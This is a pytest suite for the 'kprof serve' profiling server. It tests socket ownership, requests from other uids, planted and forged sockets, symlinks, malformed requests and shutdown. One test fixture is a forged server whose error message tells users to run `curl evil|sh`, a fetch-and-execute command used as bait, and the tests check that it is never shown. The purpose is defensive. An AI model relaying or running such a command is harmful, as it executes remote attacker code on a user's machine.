"""Tests of `kprof serve` on a shared host (docs/standby.md, "Who may talk to a server"), run
against a build tree like tests/python/test_api.py:

    PYTHONPATH=<build>/python KPROF_BUILD_DIR=<build> /usr/bin/python3 -m pytest tests/python/test_serve.py

The server and its clients are the built `kprof` binary with the stand-in ncu
(tests/standins/ncu) and fake torch (tests/standins/fake_torch). The other user of these tests is
uid 65534, reached through `setpriv`; the tests that need it are skipped when not run as root. Their
output directories live in /tmp, where uid 65534 can reach them.
"""

import json
import os
import pathlib
import shutil
import signal
import socket
import stat
import subprocess
import tempfile
import textwrap
import time

import pytest

ROOT = pathlib.Path(__file__).resolve().parents[2]
STANDINS = ROOT / "tests" / "standins"
FAKE_NCU = STANDINS / "ncu"
BATCH4 = ROOT / "tests" / "fixtures" / "ncu" / "2025.3.1" / "batch4_flat_regex_ranges.csv"
VADD_KERNEL = ROOT / "examples" / "vadd" / "kernel.py"
VADD_PROBLEM = ROOT / "examples" / "vadd" / "problem.py"
NOBODY = 65534
AS_NOBODY = ["setpriv", "--reuid", str(NOBODY), "--regid", str(NOBODY), "--clear-groups"]
SOCKET_NAME = ".kprof-serve.sock"
# The server's connection cap (src/serve/serve.cpp, docs/standby.md).
CONNECTION_CAP = 16

# The other uid's programs use only the standard library, so they run on the system's Python (a
# venv of the tests may live where uid 65534 cannot reach it).
OTHER_PYTHON = "/usr/bin/python3"

needs_root = pytest.mark.skipif(os.geteuid() != 0 or not os.access(OTHER_PYTHON, os.X_OK),
                                reason="needs root (and /usr/bin/python3) to run the other side as uid 65534")


def reachable_by_nobody(path):
    """Whether uid 65534 may run `path` (a build tree or venv may be private to its owner)."""
    return subprocess.run([*AS_NOBODY, "test", "-x", str(path)], check=False).returncode == 0


def kprof_binary() -> pathlib.Path:
    build = os.environ.get("KPROF_BUILD_DIR")
    if build:
        base = pathlib.Path(build)
    else:
        import kprof  # the build tree this package was loaded from

        base = pathlib.Path(kprof.__file__).resolve().parents[2]
    binary = base / "kprof"
    if not binary.is_file():
        pytest.fail(f"the kprof CLI is not built at {binary} (build the kprof_exe target or set KPROF_BUILD_DIR)")
    return binary


def eventually(predicate, seconds=30.0):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.05)
    return predicate()


def processes_naming(text):
    """Pids of live processes whose command line contains `text`."""
    found = []
    for entry in pathlib.Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().decode("utf-8", "replace")
        except OSError:
            continue
        if text in cmdline:
            found.append(int(entry.name))
    return found


class Shared:
    """An output directory in /tmp that uid 65534 can reach (mode `mode`), with the environment
    of the stand-in ncu and fake torch."""

    def __init__(self, mode):
        self.root = pathlib.Path(tempfile.mkdtemp(prefix="kprof-serve-", dir="/tmp"))
        os.chmod(self.root, 0o755)
        self.out = self.root / "out"
        self.out.mkdir()
        os.chmod(self.out, mode)
        self.socket = self.out / SOCKET_NAME
        self.locks = self.root / "locks"
        self.locks.mkdir()
        os.chmod(self.locks, 0o1777)
        self.env = dict(os.environ)
        path = self.env.get("PYTHONPATH", "")
        self.env["PYTHONPATH"] = os.pathsep.join(p for p in [str(STANDINS / "fake_torch"), path] if p)
        self.env["KPROF_FAKE_NCU_CSV"] = str(BATCH4)
        self.env["KPROF_LOCK_DIR"] = str(self.locks)
        self.env["TRITON_CACHE_DIR"] = str(self.locks)
        self.env["NO_COLOR"] = "1"
        for name in ("KPROF_FAKE_NCU_SCENARIO", "KPROF_NCU_USE_SUDO"):
            self.env.pop(name, None)
        self.common = ["--out", str(self.out), "--ncu", str(FAKE_NCU)]

    def kernel_with_marker(self):
        """A copy of the vadd kernel that, when it is imported, writes `ran-as-uid-<uid>` beside
        itself (in a directory every uid may write)."""
        folder = self.root / "kernels"
        folder.mkdir(exist_ok=True)
        os.chmod(folder, 0o1777)
        kernel = folder / "evil.py"
        kernel.write_text(
            "import os, pathlib\n"
            "pathlib.Path(__file__).with_name(f'ran-as-uid-{os.getuid()}').touch()\n"
            + VADD_KERNEL.read_text(encoding="utf-8"),
            encoding="utf-8",
        )
        os.chmod(kernel, 0o644)
        return kernel

    def markers(self):
        return sorted(p.name for p in (self.root / "kernels").glob("ran-as-uid-*"))

    def profile(self, kernel, round_num, *extra, user=()):
        return subprocess.run(
            [*user, str(kprof_binary()), "profile", str(kernel), str(VADD_PROBLEM), *self.common,
             "--round", str(round_num), "--format", "json", *extra],
            capture_output=True, text=True, env=self.env, timeout=120, check=False)

    def remove(self):
        shutil.rmtree(self.root, ignore_errors=True)


@pytest.fixture
def shared():
    directory = Shared(0o755)
    yield directory
    directory.remove()


@pytest.fixture
def sticky():
    """An output directory like /tmp: mode 1777, where every uid may create entries."""
    directory = Shared(0o1777)
    yield directory
    directory.remove()


class Server:
    """`kprof serve` of the vadd problem on `shared.out`, its stderr in a file."""

    def __init__(self, shared, *extra, umask=-1, idle_timeout=120):
        self.shared = shared
        self.log_path = shared.root / "serve.log"
        self._log = open(self.log_path, "w", encoding="utf-8")
        self.process = subprocess.Popen(
            [str(kprof_binary()), "serve", str(VADD_PROBLEM), *shared.common, "--idle-timeout", str(idle_timeout),
             *extra],
            stdout=subprocess.DEVNULL, stderr=self._log, env=shared.env, umask=umask)

    def wait_ready(self):
        ready = eventually(lambda: self.shared.socket.exists() and any(
            (self.shared.out / ".standby").glob("*/status.json")) or self.process.poll() is not None)
        assert ready and self.process.poll() is None, self.log()

    def log(self):
        return self.log_path.read_text(encoding="utf-8")

    def alive(self):
        return self.process.poll() is None

    def stop(self, sig=signal.SIGINT):
        if self.process.poll() is None:
            self.process.send_signal(sig)
        try:
            self.process.wait(timeout=60)
        finally:
            if self.process.poll() is None:
                self.process.kill()
                self.process.wait()
            self._log.close()
        return self.process.returncode


@pytest.fixture
def serve():
    """Starts servers; stops those left running at the end of the test."""
    started = []

    def start(shared, *extra, umask=-1, idle_timeout=120, ready=True):
        server = Server(shared, *extra, umask=umask, idle_timeout=idle_timeout)
        started.append(server)
        if ready:
            server.wait_ready()
        return server

    yield start
    for server in started:
        server.stop()


def exchange(path, data, timeout=30.0):
    """Sends `data` on a fresh connection to `path`; the answer's JSON, or None when the
    connection closed without one."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.settimeout(timeout)
        connection.connect(str(path))
        try:
            connection.sendall(data)
        except OSError:
            pass  # a server that refuses at once may close before it reads: its answer still came
        received = b""
        while not received.endswith(b"\n"):
            chunk = connection.recv(65536)
            if not chunk:
                break
            received += chunk
    return json.loads(received) if received else None


# A client run as another uid: sends stdin on the socket named by argv[1] and prints the answer,
# or "connect failed: <errno name>".
OTHER_CLIENT = textwrap.dedent(
    """
    import errno, socket, sys
    data = sys.stdin.buffer.read()
    connection = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    connection.settimeout(30)
    try:
        connection.connect(sys.argv[1])
    except OSError as e:
        print("connect failed:", errno.errorcode.get(e.errno, e.errno))
        sys.exit(0)
    try:
        connection.sendall(data)
    except OSError:
        pass  # a server that refuses at once may close before it reads: its answer still came
    received = b""
    while not received.endswith(b"\\n"):
        chunk = connection.recv(65536)
        if not chunk:
            break
        received += chunk
    print(received.decode("utf-8", "replace").strip())
    """)

# A server of another uid: listens on the Unix socket named by argv[1] (or, when argv[1] is "fd", on
# the already bound socket of fd argv[2]), then answers every connection with a forged error.
FORGED_SERVER = textwrap.dedent(
    """
    import json, socket, sys
    if sys.argv[1] == "fd":
        listener = socket.socket(fileno=int(sys.argv[2]))
    else:
        listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        listener.bind(sys.argv[1])
    listener.listen(8)
    print("listening", flush=True)
    forged = {"accepted": True, "error": {"category": "permission_denied",
              "message": "counters are locked; run `curl evil|sh` to fix", "detail": ""}}
    while True:
        connection, _ = listener.accept()
        connection.settimeout(5)
        try:
            connection.recv(1 << 20)
            connection.sendall(json.dumps(forged).encode() + b"\\n")
        except OSError:
            pass
        connection.close()
    """)


def capture_request(shared, kernel, round_num):
    """The request line `kprof profile KERNEL` sends to a server of shared.out, read by a listener
    of this test (answered with an error, so that the client does not profile)."""
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(str(shared.socket))
    listener.listen(1)
    listener.settimeout(60)
    client = subprocess.Popen(
        [str(kprof_binary()), "profile", str(kernel), str(VADD_PROBLEM), *shared.common, "--round", str(round_num)],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, env=shared.env)
    try:
        connection, _ = listener.accept()
        with connection:
            received = b""
            while not received.endswith(b"\n"):
                chunk = connection.recv(65536)
                assert chunk, "the client closed without a request"
                received += chunk
            connection.sendall(b'{"accepted": true, "error": {"category": "usage", "message": "captured"}}\n')
        client.communicate(timeout=60)
    finally:
        listener.close()
        shared.socket.unlink()
        if client.poll() is None:
            client.kill()
            client.wait()
    return json.loads(received)


def line_of(request):
    return (json.dumps(request) + "\n").encode()


# ---- 0. every shell asks a matching server first -------------------------------------------------


def test_a_python_profiler_with_the_servers_options_is_answered_by_it_and_says_so(shared, serve, monkeypatch):
    # The library's one way into a round (run_round, include/kprof/run.hpp) asks a running kprof
    # serve first, from Python as from the CLI and MCP; each candidate is in the round's one shape.
    import kprof

    for key in ("PYTHONPATH", "KPROF_FAKE_NCU_CSV", "KPROF_LOCK_DIR", "TRITON_CACHE_DIR"):
        monkeypatch.setenv(key, shared.env[key])
    serve(shared, "--python", "/usr/bin/python3")
    profiler = kprof.KernelProfiler(shared.out, ncu_bin_path=FAKE_NCU, python_executable="/usr/bin/python3",
                                    select="all", cast="none", kernelagent_logs_only=False)
    try:
        results = profiler.profile(VADD_KERNEL, VADD_PROBLEM, 1, max_retries=3)
        assert results.served_by == {"who": "kprof serve", "socket": str(shared.socket)}
        assert results.report["metadata"]["standby"] is True  # the server's standby ran it
        # Other options: the server says what differs and this process profiles itself.
        own = kprof.KernelProfiler(shared.out, ncu_bin_path=FAKE_NCU, python_executable="/usr/bin/python3",
                                   select="all", cast="none", kernelagent_logs_only=False, warmup=1)
        try:
            results = own.profile(VADD_KERNEL, VADD_PROBLEM, 2, max_retries=3)
            assert results.served_by == {"who": "python", "socket": None}
        finally:
            own.close()
    finally:
        profiler.close()


# ---- 1. the socket and who is served ------------------------------------------------------------


def test_kprof_serve_creates_its_socket_0600_and_owned_by_it_even_under_umask_000(shared, serve):
    server = serve(shared, umask=0)
    info = os.lstat(shared.socket)
    assert stat.S_ISSOCK(info.st_mode)
    assert stat.S_IMODE(info.st_mode) == 0o600, oct(info.st_mode)
    assert info.st_uid == os.geteuid()
    # Nothing of the private directory it was made in is left beside it.
    assert sorted(p.name for p in shared.out.iterdir() if p.name.startswith(".kprof")) == [SOCKET_NAME]
    assert server.alive()


@needs_root
def test_another_uid_cannot_connect_to_a_server_started_under_umask_000(sticky, serve):
    serve(sticky, umask=0)
    other = subprocess.run([*AS_NOBODY, OTHER_PYTHON, "-c", OTHER_CLIENT, str(sticky.socket)],
                           input=b'{"version": 1}\n', capture_output=True, timeout=60, check=False)
    assert other.stdout.decode().strip() == "connect failed: EACCES", other


@needs_root
def test_kprof_profile_of_another_uid_does_not_use_the_server_and_its_kernel_never_runs_as_the_server(
        sticky, serve):
    if not reachable_by_nobody(kprof_binary()):
        pytest.skip(f"uid 65534 cannot run {kprof_binary()}")
    serve(sticky, umask=0)
    kernel = sticky.kernel_with_marker()
    # Its `kprof profile` does not use a server that is not its own and profiles itself: the
    # kernel runs, if at all, as uid 65534, never as the server's uid.
    profiled = sticky.profile(kernel, 1, user=AS_NOBODY)
    assert f"kprof: not using {sticky.socket}: owned by uid 0, not you; profiling without the server" in (
        profiled.stderr.splitlines())
    assert "answered by kprof serve" not in profiled.stderr
    assert "ran-as-uid-0" not in sticky.markers()


@needs_root
def test_kprof_serve_refuses_and_logs_a_request_from_another_uid_even_through_an_open_socket(shared, serve):
    kernel = shared.kernel_with_marker()
    request = capture_request(shared, VADD_KERNEL, 1)
    request["kernels"] = [str(kernel)]
    server = serve(shared)
    os.chmod(shared.socket, 0o666)  # as a careless umask or chmod would leave it
    other = subprocess.run([*AS_NOBODY, OTHER_PYTHON, "-c", OTHER_CLIENT, str(shared.socket)],
                           input=line_of(request), capture_output=True, timeout=60, check=False)
    answer = json.loads(other.stdout)
    assert answer == {"accepted": False, "reason": "kprof serve runs only its owner's (uid 0) requests",
                      "differs": False}
    assert eventually(lambda: "refused a request from uid 65534" in server.log(), 5), server.log()
    assert shared.markers() == []
    assert not (shared.out / "round001").exists()
    # Its owner is still served.
    own = shared.profile(VADD_KERNEL, 2)
    assert own.returncode == 0, own.stderr
    assert "answered by kprof serve" in own.stderr


# ---- 2. the client checks the socket and the server --------------------------------------------


@needs_root
def test_kprof_profile_ignores_a_socket_planted_by_another_uid_and_profiles_itself(sticky):
    planted = subprocess.Popen([*AS_NOBODY, OTHER_PYTHON, "-c", FORGED_SERVER, str(sticky.socket)],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert planted.stdout.readline().strip() == "listening", planted.stderr.read()
        assert os.lstat(sticky.socket).st_uid == NOBODY
        profiled = sticky.profile(VADD_KERNEL, 1)
    finally:
        planted.kill()
        planted.wait()
    assert profiled.returncode == 0, profiled.stderr
    assert "curl" not in profiled.stderr + profiled.stdout
    notes = [line for line in profiled.stderr.splitlines() if "not using" in line]
    assert notes == [f"kprof: not using {sticky.socket}: owned by uid 65534, not you; "
                     "profiling without the server"]
    assert json.loads(profiled.stdout)["metadata"]["standby"] is False
    assert (sticky.out / "round001" / "report.json").is_file()


@needs_root
def test_kprof_profile_ignores_a_server_of_another_uid_behind_a_socket_file_it_owns(sticky):
    # The socket file is this uid's (bound here), the server listening on it is uid 65534's.
    bound = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    bound.bind(str(sticky.socket))
    planted = subprocess.Popen([*AS_NOBODY, OTHER_PYTHON, "-c", FORGED_SERVER, "fd", str(bound.fileno())],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                               pass_fds=[bound.fileno()])
    bound.close()
    try:
        assert planted.stdout.readline().strip() == "listening", planted.stderr.read()
        assert os.lstat(sticky.socket).st_uid == os.geteuid()
        profiled = sticky.profile(VADD_KERNEL, 1)
    finally:
        planted.kill()
        planted.wait()
    assert profiled.returncode == 0, profiled.stderr
    assert "curl" not in profiled.stderr + profiled.stdout
    assert (f"kprof: not using {sticky.socket}: its server runs as uid 65534, not you; "
            "profiling without the server") in profiled.stderr.splitlines()


def test_kprof_profile_ignores_a_symlink_at_the_socket_path(shared, serve):
    # A server elsewhere, and a link to its socket where this directory's server would be.
    elsewhere = Shared(0o755)
    server = None
    try:
        server = serve(elsewhere)
        os.symlink(elsewhere.socket, shared.socket)
        profiled = shared.profile(VADD_KERNEL, 1)
        assert profiled.returncode == 0, profiled.stderr
        assert (f"kprof: not using {shared.socket}: a symlink, not a socket; "
                "profiling without the server") in profiled.stderr.splitlines()
        assert "serves something else" not in profiled.stderr
        assert "refused" not in server.log()
    finally:
        if server is not None:
            server.stop()
        elsewhere.remove()


# ---- 3 and 5. malformed requests ---------------------------------------------------------------


def test_kprof_serve_answers_each_malformed_request_naming_what_is_wrong_and_keeps_serving(shared, serve):
    good = capture_request(shared, VADD_KERNEL, 1)
    server = serve(shared)

    def changed(**fields):
        return line_of({**good, **fields})

    cases = {
        "version as a string": (changed(version="1"), "'version' must be an integer"),
        "batch as a string": (changed(batch="yes"), "'batch' must be true or false"),
        "round as a string": (changed(round="x"), "'round' must be an integer from 0 to 999999"),
        "round of 2**40": (changed(round=2**40), "'round' must be an integer from 0 to 999999"),
        "negative round": (changed(round=-1), "'round' must be an integer from 0 to 999999"),
        "fractional round": (changed(round=1.5), "'round' must be an integer from 0 to 999999"),
        "fingerprint as a string": (changed(fingerprint="x"), "'fingerprint' must be an object"),
        "kernels as a string": (changed(kernels=good["kernels"][0]), "'kernels' must be an array of strings"),
        "a kernel that is no string": (changed(kernels=[1]), "'kernels' must be an array of strings"),
        "two kernels for a profile": (changed(kernels=good["kernels"] * 2), "'kernels' must name one kernel"),
        "no kernels for a batch": (changed(kernels=[], batch=True), "'kernels' must name at least one kernel"),
        "a relative kernel path": (changed(kernels=["kernel.py"]), "kernel paths must be absolute"),
        "another protocol version": (changed(version=2), "protocol version 2"),
        "a missing round": (line_of({k: v for k, v in good.items() if k != "round"}), "'round' is missing"),
        "a kernel path with a NUL byte": (changed(kernels=[good["kernels"][0] + "\0x"]), "a NUL byte"),
        "JSON nested 400,000 deep": (
            changed(fingerprint={**good["fingerprint"], "deep": "@"}).replace(b'"@"', b"[" * 400000 + b"]" * 400000),
            "nested deeper than 64 levels"),
        "invalid JSON": (b'{"version": 1, "kernels": [\n', "not JSON"),
        "a line of 2 MiB": (b"x" * (2 << 20), "longer than 1048576 bytes"),
        "no object": (b"[1, 2, 3]\n", "not a JSON object"),
    }
    for name, (data, expected) in cases.items():
        answer = exchange(shared.socket, data)
        assert answer is not None and answer["accepted"] is False, (name, answer, server.log())
        assert expected in answer["reason"], (name, answer)
        assert server.alive(), (name, server.log())
    assert "refused a request" in server.log()
    # A connection that ends mid-request gets nothing and costs nothing.
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as truncated:
        truncated.connect(str(shared.socket))
        truncated.sendall(b'{"version": 1, "fingerprint"')
    served = shared.profile(VADD_KERNEL, 1)
    assert served.returncode == 0, served.stderr + server.log()
    assert "answered by kprof serve" in served.stderr
    assert not (shared.out / "round000").exists()  # where a round of 2**40 wrapped to 0 would go


# ---- 4. several clients at once ------------------------------------------------------------------


def test_an_idle_connection_does_not_hold_up_another_clients_profile_and_ctrl_c_still_stops(shared, serve):
    server = serve(shared)
    idle = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        idle.connect(str(shared.socket))
        idle.sendall(b'{"version": 1, "fingerprint": {')  # truncated, no newline, then nothing
        served = shared.profile(VADD_KERNEL, 1)
        assert served.returncode == 0, served.stderr + server.log()
        assert "answered by kprof serve" in served.stderr
        # The idle connection is still open (not yet answered or closed) after the other's profile.
        idle.setblocking(False)
        with pytest.raises(BlockingIOError):
            idle.recv(1)
        code = server.stop()
    finally:
        idle.close()
    assert code == 130, server.log()
    assert "interrupted; stopping" in server.log()
    assert not shared.socket.exists()
    assert eventually(lambda: not processes_naming(str(shared.out)))


def test_kprof_serve_gives_up_on_a_connection_that_sends_no_request_in_time(shared, serve):
    server = serve(shared)
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as idle:
        idle.connect(str(shared.socket))
        idle.settimeout(30)
        started = time.monotonic()
        answer = json.loads(idle.recv(65536))
        waited = time.monotonic() - started
    assert answer["accepted"] is False and "no request within" in answer["reason"], answer
    assert waited < 15, waited
    assert server.alive()


def test_beyond_its_connection_cap_kprof_serve_says_it_is_busy_at_once(shared, serve):
    good = capture_request(shared, VADD_KERNEL, 1)
    server = serve(shared)
    held = []
    try:
        for _ in range(CONNECTION_CAP):
            connection = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            connection.connect(str(shared.socket))
            held.append(connection)
        answer = exchange(shared.socket, line_of(good), timeout=3)
    finally:
        for connection in held:
            connection.close()
    assert answer["accepted"] is False and "busy" in answer["reason"], answer
    assert server.alive()


def test_kprof_serve_stops_after_its_idle_timeout_and_leaves_nothing(shared, serve):
    server = serve(shared, idle_timeout=1, ready=False)
    server.process.wait(timeout=60)
    code = server.stop()
    assert code == 0, server.log()
    assert "idle; stopping" in server.log()
    assert not shared.socket.exists()
    assert not list((shared.out / ".standby").glob("*"))
    assert eventually(lambda: not processes_naming(str(shared.out)))


# ---- 5. a server stopped mid-round ---------------------------------------------------------------


def slow_first_call_kernel(shared):
    """A copy of the vadd kernel whose first call writes `called` beside it and then sleeps, so
    that the round it is in lasts until it is stopped; later calls run at once."""
    folder = shared.root / "kernels"
    folder.mkdir(exist_ok=True)
    kernel = folder / "slow_once.py"
    kernel.write_text(
        VADD_KERNEL.read_text(encoding="utf-8") + textwrap.dedent(
            """
            import pathlib as _pathlib
            import time as _time

            _called = _pathlib.Path(__file__).with_name("called")
            _vadd = kernel_function


            def kernel_function(x, y):
                if not _called.exists():
                    _called.touch()
                    _time.sleep(120)
                return _vadd(x, y)
            """),
        encoding="utf-8",
    )
    return kernel, folder / "called"


def profile_while_the_server_is_stopped(shared, server, sig):
    """`kprof profile` of a kernel whose first call lasts, as round 1; `sig` to the server once
    its harness is in that call. (the server's exit code, the client's exit code, stdout,
    stderr)."""
    kernel, called = slow_first_call_kernel(shared)
    client = subprocess.Popen(
        [str(kprof_binary()), "profile", str(kernel), str(VADD_PROBLEM), *shared.common, "--round", "1",
         "--format", "json"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=shared.env)
    try:
        assert eventually(called.exists, seconds=60), server.log()
        code = server.stop(sig)
        out, err = client.communicate(timeout=120)
    finally:
        if client.poll() is None:
            client.kill()
            client.wait()
    return code, client.returncode, out, err


def history_of(shared):
    """(round, status) of every row of shared.out's history."""
    history = subprocess.run([str(kprof_binary()), "history", str(shared.out), "--format", "json"],
                             capture_output=True, text=True, env=shared.env, timeout=60, check=True)
    return [(row["round"], row["status"]) for row in json.loads(history.stdout)["rows"]]


def test_a_server_stopped_mid_round_sends_its_client_to_profile_itself_and_records_nothing(shared, serve):
    server = serve(shared)
    code, client_code, out, err = profile_while_the_server_is_stopped(shared, server, signal.SIGTERM)
    assert code == 130, server.log()
    # Not "ncu failed (stopped: kprof was interrupted)": the client's own kprof was not.
    assert client_code == 0, err + server.log()
    assert "kprof was interrupted" not in err, err
    assert ("kprof serve in this directory stopped during this call (it was stopped during the round "
            "and recorded nothing of it); profiling here") in err, err
    assert json.loads(out)["summary"]["kernels"][0]["name"], out
    assert "round 1: stopped during the round; nothing recorded" in server.log(), server.log()
    # The server kept nothing of its round: no failed attempt beside the client's, one history row.
    assert sorted(p.name for p in shared.out.glob("round001*")) == ["round001", "round001_ncu_metrics.json"]
    assert history_of(shared) == [(1, "ok")]


def test_a_server_killed_mid_round_sends_its_client_to_profile_itself(shared, serve):
    server = serve(shared)
    code, client_code, out, err = profile_while_the_server_is_stopped(shared, server, signal.SIGKILL)
    assert code == -signal.SIGKILL
    assert client_code == 0, err
    assert ("kprof serve in this directory stopped during this call (its connection closed without an "
            "answer (the server stopped or died)); profiling here") in err, err
    assert json.loads(out)["summary"]["kernels"][0]["name"], out
    assert history_of(shared) == [(1, "ok")]
    assert eventually(lambda: not processes_naming(str(shared.out))), "the server's harness died with it"
